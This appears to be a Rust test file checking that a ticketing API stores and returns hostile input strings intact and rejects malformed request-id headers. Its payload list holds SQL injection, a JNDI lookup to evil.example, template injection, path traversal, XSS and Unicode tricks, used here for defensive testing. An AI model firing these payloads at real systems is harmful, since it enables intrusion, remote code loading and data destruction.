//! Hostile words that are allowed come back unharmed.

use serde_json::json;
use support::on_each_engine;

const HOSTILE: &[&str] = &[
    "'; DROP TABLE tickets; --",
    "\" OR 1=1 --",
    "%_\\",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "نمی\u{200c}شوم \u{202e}abc\u{202c}",
    "\u{feff}bom",
    "🏳️‍🌈 e\u{301}",
    "null",
    "0",
    "$1 $2 ?1 :name",
];

on_each_engine!(words_are_data_wherever_they_stand, |app| {
    for words in HOSTILE {
        let tag = words.replace(['/', ','], "_");
        let customer = json!({"name": words, "external_id": words});
        let ticket =
            app.ticket().with("subject", *words).with("tags", json!([tag])).with("customer", customer).opened();
        let shown = app.root().get(format!("/v1/tickets/{}?expand=customer", ticket.id())).expect(200);
        assert_eq!(shown["subject"], words.trim());
        assert_eq!(shown["customer"]["name"], words.trim());
        assert_eq!(shown.words("tags"), [tag.trim().to_lowercase()]);
        app.root().delete(format!("/v1/customers/{}", ticket.str("customer_id"))).expect(204);
    }
    assert_eq!(app.root().get("/v1/tickets?limit=200").data().len(), HOSTILE.len());
    assert_eq!(app.settle()["intact"], true);
});

on_each_engine!(a_source_or_request_id_is_an_id_or_nothing, |app| {
    for bad in ["a b", "a/b", &"x".repeat(129), "ن"] {
        let answer = app.root().with("X-Request-Id", bad).get("/v1/tickets").expect(200);
        assert_ne!(answer.header("x-request-id"), Some(bad));
    }
    app.root().with("X-Request-Id", "aB.9_-").get("/v1/tickets").expect(200).has_header("x-request-id", "aB.9_-");
    let refused = app.root().with("X-Source-Id", "x".repeat(129)).get("/v1/tickets").expect(400);
    refused.problem("invalid_header").field_error("X-Source-Id", "invalid_format");
});
